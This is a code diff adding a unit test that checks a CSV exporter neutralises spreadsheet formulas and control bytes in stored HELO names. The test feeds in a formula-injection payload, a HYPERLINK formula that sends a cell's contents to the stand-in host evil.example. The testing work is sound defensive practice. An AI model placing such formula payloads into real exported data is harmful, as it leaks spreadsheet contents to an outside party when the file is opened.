@@ -61,6 +61,28 @@ TEST(Export, CidrCollapsesExactly) {
             "192.0.2.0/24\n198.51.100.0/24\n2001:db8::/48\n");
 }
 
+// A HELO that reached the ledger before names were cleaned on arrival (an
+// older database) must not become a live spreadsheet formula, and control
+// bytes must not pass into the file (security review).
+TEST(Export, CsvNeutralisesFormulasAndControlBytes) {
+  auto recs = Sample();
+  recs[0].helo_names.clear();
+  recs[0].helo_names.push_back(
+      {"=HYPERLINK(\"http://evil.example/?\"&A3,\"x\")", 1});
+  recs[1].helo_names.clear();
+  recs[1].helo_names.push_back({std::string("a\x1b\x07\x00b\rc\nd", 9), 1});
+  std::string csv = Export(recs, Opts(Format::kCsv));
+  EXPECT_THAT(csv, Not(HasSubstr(",=HYPERLINK")));
+  EXPECT_THAT(csv, Not(HasSubstr(",\"=HYPERLINK")));
+  EXPECT_THAT(csv, HasSubstr("\"'=HYPERLINK("));
+  for (size_t i = 0; i < csv.size(); ++i) {  // CR only in CR LF line ends
+    char c = csv[i];
+    bool line_end = c == '\n' || (c == '\r' && csv[i + 1] == '\n');
+    EXPECT_TRUE(line_end || (c >= 0x20 && c != 0x7f)) << i << ": " << int(c);
+  }
+  EXPECT_EQ(std::count(csv.begin(), csv.end(), '\n'), 7);
+}
+
 TEST(Export, CsvQuotesNames) {
   auto recs = Sample();
   MergeName(&recs[0].helo_names, "evil,\"name\"", 2);
